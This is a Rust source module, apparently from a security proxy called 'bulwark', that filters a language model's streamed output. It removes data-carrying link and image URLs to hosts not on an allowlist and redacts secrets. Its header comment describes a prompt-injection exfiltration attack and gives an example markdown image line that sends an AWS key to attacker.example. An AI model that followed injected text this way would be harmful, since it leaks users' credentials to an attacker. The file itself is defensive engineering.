//! What the model writes back, neutralised before the agent (and whoever renders its output)
//! sees it.
//!
//! Threat answered: a model steered by injected text writes the data it read into a URL the
//! agent's chat UI fetches on its own: `![](https://attacker.example/p.png?k=[aws-access-key-id#1])`
//! (the placeholder is restored to the real key on the way out), or a link carrying it. And a
//! secret the model reassembled or decoded is echoed in its reply.
//!
//! In the model's own text (before placeholders are restored, so a URL that would carry a value
//! is seen carrying its placeholder):
//! - a markdown image whose host is not named in `[egress] allow_domains` loses its URL (an image
//!   is fetched without a click);
//! - a markdown link whose host is not named there and whose URL carries data (a query, a
//!   fragment, user info, a placeholder, or a path longer than [`MAX_PLAIN_PATH`]) loses its URL;
//! - a secret the detectors find is redacted one way (`[REDACTED:rule]`).
//!
//! A lost URL becomes `#bulwark-removed`, which points nowhere. Streams are filtered as they
//! come: text goes on up to its last whitespace, except an unfinished link, which waits (at most
//! [`MAX_HOLD`] bytes) until it is whole.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::placeholders::{Conversation, redact_text};
use crate::scan::{Detectors, Scanner};

/// What a removed URL becomes.
pub const REMOVED: &str = "#bulwark-removed";
/// Longest path a link to a host not named may have and still pass (longer ones can carry data).
pub const MAX_PLAIN_PATH: usize = 64;
/// Most bytes a stream holds while a link or a word is unfinished.
pub const MAX_HOLD: usize = 4096;

/// Whether a host is named as trusted (by the egress allowlist).
pub type NamesHost = dyn Fn(&str) -> bool + Send + Sync;

/// The output guard of one exchange: how it judges, and what it did.
pub struct OutputPolicy {
    scanner: Scanner,
    names_host: Arc<NamesHost>,
    links: AtomicUsize,
    secrets: AtomicUsize,
}

impl std::fmt::Debug for OutputPolicy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("OutputPolicy")
            .field("links", &self.links)
            .field("secrets", &self.secrets)
            .finish()
    }
}

impl OutputPolicy {
    /// A guard that finds secrets with `scanner` and trusts the hosts `names_host` names.
    pub fn new(scanner: Scanner, names_host: Arc<NamesHost>) -> OutputPolicy {
        OutputPolicy {
            scanner,
            names_host,
            links: AtomicUsize::new(0),
            secrets: AtomicUsize::new(0),
        }
    }

    /// URLs removed and secrets redacted so far.
    pub fn counts(&self) -> (usize, usize) {
        (
            self.links.load(Ordering::Relaxed),
            self.secrets.load(Ordering::Relaxed),
        )
    }

    /// Whether a URL the model wrote may stay.
    fn keep(&self, url: &str, image: bool) -> bool {
        let url = url.trim();
        let Some((scheme, _)) = url.split_once(':') else {
            // Relative: it stays where the reader is.
            return true;
        };
        if !scheme
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
        {
            return true;
        }
        let Ok(u) = url::Url::parse(url) else {
            // Looks absolute, does not parse: not known to be harmless.
            return false;
        };
        match u.host_str() {
            // mailto:, data:, tel:: nothing is fetched from a host.
            None => !image || u.scheme() == "data",
            Some(host) => {
                if (self.names_host)(host) {
                    return true;
                }
                if image {
                    return false;
                }
                let carries = u.query().is_some()
                    || u.fragment().is_some()
                    || !u.username().is_empty()
                    || u.password().is_some()
                    || u.path().len() > MAX_PLAIN_PATH
                    || url.contains('[');
                !carries
            }
        }
    }

    /// Neutralise one whole text: links first, then secrets.
    pub fn text(&self, s: &str) -> String {
        self.segment("", s, true)
    }

    /// [`OutputPolicy::text`] for a copy of a text already counted (a stream's final object
    /// repeats what its deltas carried).
    pub fn text_again(&self, s: &str) -> String {
        let counts = self.counts();
        let out = self.segment("", s, true);
        self.links.store(counts.0, Ordering::Relaxed);
        self.secrets.store(counts.1, Ordering::Relaxed);
        out
    }

    /// Neutralise a piece of a text that follows `context` (already sent: it is read, so a
    /// secret named by the words before it is found, but not changed). Unless the piece is
    /// `whole`, a URL that runs to its end is cut short and removed, whatever it is (its end,
    /// still to come, cannot be judged).
    fn segment(&self, context: &str, s: &str, whole: bool) -> String {
        let linked = self.links(s, whole);
        let secrets = Detectors {
            secrets: true,
            pii: false,
            injection: false,
        };
        let mut none = Conversation::new(0);
        let mut read = String::with_capacity(context.len() + linked.len());
        read.push_str(context);
        read.push_str(&linked);
        let r = redact_text(&self.scanner, secrets, &mut none, &read);
        if r.one_way == 0 {
            return linked;
        }
        if let Some(mine) = r.text.strip_prefix(context) {
            self.secrets.fetch_add(r.one_way, Ordering::Relaxed);
            return mine.to_string();
        }
        // A finding reaches into what was sent: this piece is judged alone.
        let r = redact_text(&self.scanner, secrets, &mut none, &linked);
        self.secrets.fetch_add(r.one_way, Ordering::Relaxed);
        r.text
    }

    /// Remove the URLs of markdown images and links that may not stay.
    fn links(&self, s: &str, whole: bool) -> String {
        let mut out = String::with_capacity(s.len());
        let mut pos = 0;
        while let Some(off) = s[pos..].find("](") {
            let open = pos + off;
            let url_start = open + 2;
            let url_end = s[url_start..]
                .find(|c: char| c == ')' || c.is_whitespace())
                .map_or(s.len(), |e| url_start + e);
            // An image when the label's `[` follows a `!`.
            let image = s[..open]
                .rfind('[')
                .is_some_and(|b| b > 0 && s.as_bytes()[b - 1] == b'!');
            out.push_str(&s[pos..url_start]);
            let url = &s[url_start..url_end];
            if (whole || url_end < s.len()) && self.keep(url, image) {
                out.push_str(url);
            } else {
                self.links.fetch_add(1, Ordering::Relaxed);
                out.push_str(REMOVED);
            }
            pos = url_end;
        }
        out.push_str(&s[pos..]);
        out
    }
}

/// One streamed text, filtered as it comes.
#[derive(Debug, Default)]
pub struct OutputFilter {
    held: String,
    /// The end of what was sent, read as context for the next piece.
    sent: String,
}

/// Bytes of sent text kept as context.
const CONTEXT: usize = 64;

/// Where an unfinished link starts in `s` (the `[` of a label not yet followed by its URL's
/// end), if one does.
fn open_link(s: &str) -> Option<usize> {
    // An unfinished URL: `](` with no end after it.
    if let Some(i) = s.rfind("](")
        && !s[i + 2..].contains(|c: char| c == ')' || c.is_whitespace())
    {
        return Some(s[..i].rfind('[').unwrap_or(i));
    }
    let b = s.rfind('[')?;
    let rest = &s[b..];
    match rest.find(']') {
        // A label still open: a link may follow.
        None => Some(if b > 0 && s.as_bytes()[b - 1] == b'!' {
            b - 1
        } else {
            b
        }),
        // A label just closed: its `(` may come next.
        Some(e) if b + e + 1 == s.len() => Some(b),
        Some(_) => None,
    }
}

impl OutputFilter {
    /// A filter for one streamed text.
    pub fn new() -> OutputFilter {
        OutputFilter::default()
    }

    /// Add a chunk: what may go on now, neutralised.
    pub fn push(&mut self, policy: &OutputPolicy, chunk: &str) -> String {
        self.held.push_str(chunk);
        let mut cut = self.held.rfind(char::is_whitespace).map_or(0, |i| {
            i + self.held[i..].chars().next().map_or(1, char::len_utf8)
        });
        if let Some(open) = open_link(&self.held) {
            cut = cut.min(open);
        }
        let mut whole = true;
        if self.held.len() - cut > MAX_HOLD {
            // Too long to wait for: judged as it is, an unfinished URL removed.
            cut = self.held.len();
            whole = false;
        }
        if cut == 0 {
            return String::new();
        }
        let rest = self.held.split_off(cut);
        let ready = std::mem::replace(&mut self.held, rest);
        let out = policy.segment(&self.sent, &ready, whole);
        self.remember(&out);
        out
    }

    /// The text ended: the rest, neutralised.
    pub fn finish(&mut self, policy: &OutputPolicy) -> String {
        let ready = std::mem::take(&mut self.held);
        if ready.is_empty() {
            return ready;
        }
        policy.segment(&self.sent, &ready, true)
    }

    fn remember(&mut self, out: &str) {
        self.sent.push_str(out);
        if self.sent.len() > CONTEXT {
            let mut from = self.sent.len() - CONTEXT;
            while !self.sent.is_char_boundary(from) {
                from += 1;
            }
            self.sent.drain(..from);
        }
    }
}
